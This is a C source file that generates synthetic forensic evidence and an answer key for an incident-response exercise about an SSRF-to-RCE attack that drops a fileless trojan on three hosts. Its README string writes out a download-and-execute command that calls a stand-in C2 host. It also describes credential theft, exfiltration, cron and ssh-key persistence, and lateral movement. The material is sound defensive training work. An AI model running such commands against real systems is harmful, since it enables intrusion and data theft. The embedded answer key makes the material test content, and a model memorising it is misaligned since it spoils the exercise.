/* SPDX-License-Identifier: Apache-2.0 */
/*
 * main.c - java-rce OUTDIR [--scale N] [--seed S]: the evidence of the "Java RCE to fileless
 * trojan (host)" story (DESIGN.md section 1, third story): auditd, auth.log and application
 * logs of three hosts and the Zeek conn.log of the network sensor, with README.txt,
 * attack-notes.txt and the answer key expected.json. Same arguments, same bytes.
 */
#include "jr.h"

#include <string.h>

#include "args.h"

int64_t day0;
int scale = 1;

int64_t at(int sec)
{
    return day0 + (int64_t)sec * NS;
}

static const char readme[] =
    "java-rce - Java RCE to fileless trojan (host)\n"
    "=============================================\n\n"
    "One day (2026-10-27, UTC) of an orders API on three Debian 12 VMs behind a load balancer\n"
    "(" LB_IP "): api-1 (10.20.1.11), api-2 (10.20.1.12) run orders-api (Spring Boot, Java 17,\n"
    "user orders uid 998); worker-1 (10.20.2.21) runs batch jobs. The API's link-preview\n"
    "endpoint fetches any URL (SSRF); an internal endpoint on 127.0.0.1:8081 renders SpEL\n"
    "templates. At 11:40 " ATTACKER1 " probes the SSRF, then makes the preview fetch\n"
    "/internal/render with a template that runs\n"
    "  curl http://" C2A "/t -o /dev/shm/kworker; chmod +x /dev/shm/kworker; /dev/shm/kworker\n"
    "as orders. The binary lives in /dev/shm (tmpfs) and renames itself [kworker/14:1]\n"
    "(prctl PR_SET_NAME). It beacons to " C2A ":8443, reads the API's DB credentials, dumps the\n"
    "database, exfiltrates ~9 MB, adds a crontab line and an ssh key, and at 13:12 uses the\n"
    "service's ssh key to start another copy on worker-1 (/dev/shm/.kthread, [kworker/u8:2],\n"
    "C2 " C2C ":8080). At 12:37 api-2 is exploited from " ATTACKER2 " (/dev/shm/kworkerd,\n"
    "[kworker/3:2], C2 " C2B ":443). After the responders block " C2A " at 14:05, api-1's\n"
    "trojan moves to " C2A2 ":8443. New addresses and file names keep appearing while the\n"
    "responders work: the alerts must merge into one incident (by IP, process, host, file).\n\n"
    "Files\n"
    "  hosts/<host>/var/log/audit/audit.log   auditd, log_format=ENRICHED (0x1D then names);\n"
    "        rules: execve (key exec), connect by euid 998 (net_out), prctl PR_SET_NAME\n"
    "        (proc_rename), watches on /dev/shm (shm), /var/spool/cron (cron),\n"
    "        ~orders/.ssh/authorized_keys (ssh_keys) and " APP_YML " (app_secrets).\n"
    "        Serial numbers are consecutive per host; the 08:30 restart of orders-api has a\n"
    "        classpath over 7500 bytes (split EXECVE argument a5_len/a5[0]/a5[1]...).\n"
    "  hosts/<host>/var/log/auth.log          sshd, sudo, CRON, systemd-logind (RFC 3164 times)\n"
    "  hosts/api-<n>/var/log/orders-api/app.log   Spring Boot log with the SSRF and the stack\n"
    "        traces (SpelEvaluationException in RenderController; HttpServerErrorException in\n"
    "        LinkPreviewService.fetch <- PreviewController.preview)\n"
    "  hosts/api-1/var/spool/cron/crontabs/orders, hosts/api-1/home/orders/.ssh/authorized_keys\n"
    "  zeek/2026-10-27/conn.HH:00:00-HH:00:00.log.gz   Zeek 6 conn.log, hourly zeekctl archives\n"
    "        (a connection is in the file of the hour it ended; pooled DB connections open at\n"
    "        midnight are not logged yet)\n"
    "  attack-notes.txt   each step, its time, and the record that shows it\n"
    "  expected.json      the answer key\n\n"
    "Benign background: sysstat cron every 10 minutes, apt and unattended-upgrades at\n"
    "06:12/06:41, "
    "an hourly batch job on worker-1 (user batch), the 08:30 rollout restarting orders-api,\n"
    "orders and link previews (java connecting out to partner sites), LB health checks every\n"
    "30 s, clients through the LB, DNS, package mirror, admin ssh + sudo by alice, and the\n"
    "responder bob's session on api-1 at 13:40. All external addresses are documentation\n"
    "ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24).\n";

static const char expected[] =
    "{\n"
    "  \"story\": \"java-rce\",\n"
    "  \"title\": \"Java RCE to fileless trojan (host)\",\n"
    "  \"attacker_ips\": [\"" ATTACKER1 "\", \"" ATTACKER2 "\", \"" C2A "\", \"" C2A2 "\", \""
    C2B "\", \"" C2C "\"],\n"
    "  \"compromised\": {\n"
    "    \"identities\": [\"" APP_USER "\"],\n"
    "    \"workloads\": [\"api-1\", \"api-2\", \"worker-1\", \"[kworker/14:1]\", "
    "\"[kworker/3:2]\", \"[kworker/u8:2]\"]\n"
    "  },\n"
    "  \"questions\": {\n"
    "    \"initial_access\": {\"techniques\": [\"T1190\", \"T1059.004\", \"T1105\"],\n"
    "      \"artifacts\": [\"" ATTACKER1 "\", \"/api/v1/preview\", \"/internal/render\",\n"
    "        \"/dev/shm/kworker\", \"[kworker/14:1]\"]},\n"
    "    \"spread\": {\"techniques\": [\"T1021.004\", \"T1552.004\", \"T1190\"],\n"
    "      \"artifacts\": [\"worker-1\", \"api-2\", \"" ATTACKER2 "\", \"/dev/shm/.kthread\",\n"
    "        \"/dev/shm/kworkerd\", \"" C2B "\", \"" C2C "\"]},\n"
    "    \"persistence\": {\"techniques\": [\"T1053.003\", \"T1098.004\"],\n"
    "      \"artifacts\": [\"/var/spool/cron/crontabs/orders\", "
    "\"/home/orders/.ssh/authorized_keys\"]},\n"
    "    \"impact\": {\"techniques\": [\"T1552.001\", \"T1041\"],\n"
    "      \"artifacts\": [\"" APP_YML "\", \"" DB_IP "\", \"" C2A "\", \"" C2A2 "\"]},\n"
    "    \"prevention\": {\"keywords\": [\"SSRF\", \"allowlist\", \"noexec\", \"/dev/shm\", "
    "\"egress\"]}\n"
    "  },\n"
    "  \"sources\": {\n"
    "    \"hosts/*/var/log/audit/audit.log\": \"auditd\",\n"
    "    \"hosts/*/var/log/auth.log\": \"auth-log\",\n"
    "    \"hosts/*/var/log/orders-api/app.log\": \"app-log\",\n"
    "    \"hosts/*/var/spool/cron/crontabs/*\": \"crontab\",\n"
    "    \"hosts/*/home/*/.ssh/authorized_keys\": \"ssh-authorized-keys\",\n"
    "    \"zeek/*/conn.*.log.gz\": \"zeek\"\n"
    "  }\n"
    "}\n";

int main(int argc, char **argv)
{
    uint64_t seed;

    args_parse(argc, argv, "java-rce", &scale, &seed);
    rng_seed(seed);
    day0 = tf_epoch(DAY, 0, 0, 0) * NS;
    gen_hosts();
    gen_zeek();
    notes_write("attack-notes.txt",
                "java-rce: the attack, step by step (UTC), and where each step is recorded.\n"
                "Lines are 1-based; offsets are the byte offset of the line's first byte (in\n"
                "the uncompressed text for .gz files). RESPONSE marks the responders' actions.\n"
                "\n");
    out_meta_file("README.txt", readme, strlen(readme));
    out_meta_file("expected.json", expected, strlen(expected));
    return 0;
}
